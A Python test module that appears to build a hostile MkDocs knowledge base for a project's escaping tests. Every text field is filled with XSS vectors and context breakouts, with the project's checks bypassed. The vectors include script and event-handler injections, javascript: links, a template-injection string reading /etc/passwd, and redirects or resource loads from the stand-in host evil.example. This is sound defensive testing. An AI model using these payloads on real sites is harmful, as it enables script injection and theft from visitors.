"""A knowledge base in which every text of every file is an attack on whoever opens the site.

The attacks are the vectors of the published lists (OWASP, PortSwigger, html5sec), each behind the ways out of
the place where a value is printed: a quotation mark ends an attribute, `</title>` a title, a fence or a tick
code. It is built although no check would let it pass, since a check can be wrong.
"""

from __future__ import annotations

import dataclasses
import json
import re
from collections.abc import Mapping
from itertools import product
from pathlib import Path
from typing import Any

import pytest
import yaml
from mkdocs.commands.build import build
from mkdocs.config import load_config

import concordance.mkdocs as plugin
from concordance.base.model import KnowledgeBase
from concordance.base.problems import Problem
from concordance.base.values import Typed, is_markdown
from concordance.checks import check_root
from concordance.quoting.making import make_fingerprint
from concordance.record.history import load_history
from concordance.record.releasing import release, write_release
from concordance.study.index import Index
from tests import worlds

EVIL = "https://evil.example/"

VECTORS = (
    "<script>alert(1)</script>",
    f"<script src={EVIL}x.js></script>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert&lpar;1)</script>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<img src=x onerror=alert(1)>",
    f"<img src={EVIL}x.png>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:parent.alert(1)></iframe>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1) onpageshow=alert(1)>",
    "<marquee onstart=alert(1)>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<link rel=stylesheet href={EVIL}x.css>",
    f"<style>@import '{EVIL}x.css';*{{background:url({EVIL}x)}}</style>",
    f"<base href={EVIL}>",
    f"<object data={EVIL}x></object><embed src={EVIL}x>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<x style=animation-name:x onanimationstart=alert(1)><style>@keyframes x{}</style>",
    f"<form action={EVIL}><button autofocus onfocus=alert(1)>",
)
"""What an attacker wants in the page."""

WAYS_OUT = (
    "",
    '">',
    "'>",
    "</title></textarea></style></script>",
    "-->",
    "`",
    "\n\n```html\n",
    "[[p0|~~~]]\n",
    '{: onclick="alert(1)" }\n',
    "*a*\n\n    <p>\n",
    "\\",
    "]]>",
)
"""What might end the place where a value stands."""

OTHERS = (
    f'0;url={EVIL}" http-equiv="refresh',
    '" onmouseover="alert(1)" autofocus onfocus="alert(1)" x="',
    "' autofocus onfocus='alert(1)' x='",
    "&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "[x](javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    f"[x]({EVIL})\n\n![x]({EVIL}x.png)",
    f"[x][y]\n\n[y]: javascript:alert(1)\n\n![x][z]\n\n[z]: {EVIL}x.png",
    "<javascript:alert(1)>",
    "{{ ''.__class__.__mro__ }}{% include '/etc/passwd' %}",
    "</script><script>alert(1)</script>",
    '{"__proto__": {"x": "<img src=x onerror=alert(1)>"}}',
    "```mermaid\nflowchart LR\n a[<img src=x onerror=alert(1)>] --> b\n click a javascript:alert(1)\n```",
    "`a\n<script>alert(1)</script>\nb`",
    "<a id=document$><a id=document$ name=subscribe href=javascript:alert(1)>",
)
PAYLOADS = tuple(dict.fromkeys([*(way + vector for vector, way in product(VECTORS, WAYS_OUT)), *OTHERS]))
FEW, MANY = 6, 30  # payloads together in a value of an entry, and in one of which a site has fewer
ENTRIES = -(-len(PAYLOADS) // FEW)
_TOKEN = re.compile(r"payloads (\d+) to (\d+)( backwards)?")


def build_hostile(root: Path, to: Path) -> None:
    """Write the knowledge base to `root`, put it on record as a release, and build its site to `to`.

    The files have a name for the attacks wherever a text is. The names are replaced once the files are
    loaded, so that no limit of the form and no check is in the way of an attack.
    """
    _write(root)
    base = _attacked(root)
    assert len(base.concepts) == ENTRIES
    history, _ = load_history(root)
    added, _ = release(base, history, "0.1.0", "2020-01-01")
    write_release(root, history, added)
    index = Index(base, load_history(root)[0])

    def unchecked(root: Path, kept: object) -> tuple[Index, list[Problem]]:
        return index, []

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(plugin, "check_root", unchecked)
        build(load_config(str(root / "mkdocs.yml"), site_dir=str(to), strict=False))


def _attacked(root: Path) -> KnowledgeBase:
    index, _ = check_root(root)
    assert index is not None
    fields = {field.name: getattr(index.base, field.name) for field in dataclasses.fields(index.base)}
    kept = {"fingerprints", "places", "keys", "texts"}
    return KnowledgeBase(
        **{name: value if name in kept else _filled(value) for name, value in fields.items()}
    )


def _filled(value: Any, lines: bool = False) -> Any:
    """A value of the model with the attacks in the place of their names, on one line or on `lines`."""
    if isinstance(value, str):
        filled = _TOKEN.sub(lambda match: _payloads(int(match[1]), int(match[2]), bool(match[3])), value)
        return filled if lines else " ".join(filled.split())
    if isinstance(value, Typed):
        fields = type(value).model_fields
        update = {name: _filled(each, is_markdown(fields[name])) for name, each in value}
        return value.model_copy(update=update)
    if isinstance(value, Mapping):
        return {key: _filled(each, lines) for key, each in value.items()}
    return tuple(_filled(each, lines) for each in value) if isinstance(value, tuple) else value


def _payloads(first: int, end: int, backwards: bool) -> str:
    found = PAYLOADS[first:end]
    return "\n\n".join(reversed(found) if backwards else found)  # each comes first somewhere


def _write(root: Path) -> None:
    for folder in ("concepts", "sources", "docs"):
        (root / folder).mkdir(parents=True)
    groups = range(0, len(PAYLOADS), MANY)
    texts = {f"x{at}": f"payloads {at} to {at + MANY}" for at in groups}
    vocabulary = yaml.load(worlds.VOCABULARY.read_text(encoding="utf-8"), yaml.BaseLoader)
    kind = vocabulary["kinds"]["system"]
    relation = {"skos": "related", "color": "#2b6cb0", "line": "solid", "from": "any", "to": "any"}
    _save(
        root / "vocabulary.yaml",
        {
            "kinds": {
                name: kind | {"label": text, "plural": text, "about": text} for name, text in texts.items()
            },
            "relations": {
                name: relation
                | {"label": text, "about": text, "inverse": f"of-{name}", "inverse-label": text}
                for name, text in texts.items()
            },
        },
    )
    about = worlds.ABOUT.model_dump(by_alias=True, exclude_none=True, mode="json")
    first, second, *_ = texts.values()
    about |= {"title": first, "subtitle": second, "about": first, "author": second, "start": "p0"}
    _save(root / "knowledge.yaml", about | {"views": [{"title": text} for text in list(texts.values())[:8]]})
    for at in range(ENTRIES):
        _save(root / f"concepts/p{at}.yaml", _entry(at))
    _save(
        root / "concepts/_removed.yaml",
        {f"gone-{name}": {"name": text, "why": text} for name, text in texts.items()},
    )
    _save(
        root / "tours.yaml",
        {
            name: {
                "title": text,
                "about": text,
                "stops": [{"concept": f"p{stop}", "lead": text} for stop in range(3)],
            }
            for name, text in texts.items()
        },
    )
    for at in groups:
        _source(root, at)
    own = [f"---\ntitle: {json.dumps(PAYLOADS[0])}\n---\n# A page", *PAYLOADS]
    (root / "docs/own.md").write_text("\n\n".join(own), encoding="utf-8")
    lines = ["site_name: Attack", "theme: {name: concordance}", "plugins: [material/search, concordance]"]
    (root / "mkdocs.yml").write_text("\n".join(lines), encoding="utf-8")


def _entry(at: int) -> dict[str, Any]:
    group, other = at * FEW // MANY * MANY, f"p{(at + 1) % ENTRIES}"
    one = f"payloads {at * FEW} to {(at + 1) * FEW}"
    two = f"{one} backwards"
    quote = {"source": f"s{group}", "edition": "e", "at": one, "omits": two, "role": "explains"}
    payloads = range(at * FEW, min((at + 1) * FEW, len(PAYLOADS)))
    quotes = {f"q{each}": quote | {"text": f"payloads {each} to {each + 1} and so on"} for each in payloads}
    link = {"relation": f"x{group}", "target": other, "player": one}
    return {
        "name": one,
        "kind": f"x{group}",
        "aliases": [f"a {one}", f"a {two}"],
        "definition": two,
        "explanation": f"[[{other}|{one}]] [[{other}]]\n\n{one}\n\n- {two}\n\n> {one}",
        "wording": f"{two} [[{other}|{one}]]",
        "elsewhere": [{"term": f"elsewhere {two}", "about": f"{one} [[{other}|{two}]]"}],
        "undefined": one,
        "quotes": quotes,
        "links": [
            link | {"inferred": one},
            link | {"inferred": two, "player": two},
            link | {"quote": next(iter(quotes))},
        ],
    }


def _source(root: Path, at: int) -> None:
    text, source_id = f"payloads {at} to {at + MANY}", f"s{at}"
    each = [f"payloads {one} to {one + 1}" for one in range(at, min(at + MANY, len(PAYLOADS)))]
    edition = {"label": text, "issued": "2020", "url": "https://a.example/", "note": text, "number": text}
    source = {
        "type": "article",
        "title": text,
        "short": text,
        "author": [{"family": one, "given": one} for one in each],
        "issued": "2020-01-01",
        "container-title": text,
        "publisher": text,
        "number": text,
        "genre": text,
        "DOI": f"10.1000/{''.join(text.split())}",
        "URL": "https://a.example/",
        "about": text,
        "editions": {"e": edition},
        "glossary": each,
        "quotations": [{"source": "s0", "text": one, "note": one} for one in each],
    }
    _save(root / f"sources/{source_id}.yaml", source)
    payloads = PAYLOADS[at : at + MANY]
    words = "\n\n".join(f"# {' '.join(payload.split())}\n\n{payload} and so on" for payload in payloads)
    made = make_fingerprint(words, source_id, "e")
    (root / f"sources/{source_id}.e.fingerprint.json").write_text(made.to_json(), encoding="utf-8")


def _save(path: Path, value: Any) -> None:
    path.write_text(yaml.safe_dump(value, sort_keys=False, width=10**6), encoding="utf-8")
